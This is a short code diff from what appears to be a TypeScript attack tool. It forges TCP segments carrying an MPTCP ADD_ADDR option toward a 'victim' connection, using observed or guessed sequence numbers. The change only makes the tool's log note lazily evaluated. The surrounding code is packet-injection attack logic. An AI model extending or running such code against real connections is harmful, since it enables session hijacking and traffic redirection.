@@ -132,8 +132,8 @@ export function sendAddAddrs(ctx: AttackContext, plan: AddAddrPlan, address: IpA
       const t = plan.target;
       const ends = endsOf(t, pt, plan.victim);
       const bytes = craftSegment({ ...ends, seq: pt.seq, ack: pt.ack, flags: TCP_FLAG.ACK, window: t.window, options: [...(t.timestamps ? [t.timestamps] : []), option] });
-      const at = t.seen ? `${formatEndpoint(ends.dst, ends.dstPort)} as ${formatEndpoint(ends.src, ends.srcPort)}` : `guess ${n}: ${pointText(pt)}`;
-      return { bytes, note: `ADD_ADDR ${formatIp(address)} (ID ${addressId}) to ${at}, ${how}` };
+      const at = () => (t.seen ? `${formatEndpoint(ends.dst, ends.dstPort)} as ${formatEndpoint(ends.src, ends.srcPort)}` : `guess ${n}: ${pointText(pt)}`);
+      return { bytes, note: () => `ADD_ADDR ${formatIp(address)} (ID ${addressId}) to ${at()}, ${how}` };
     },
   });
 }
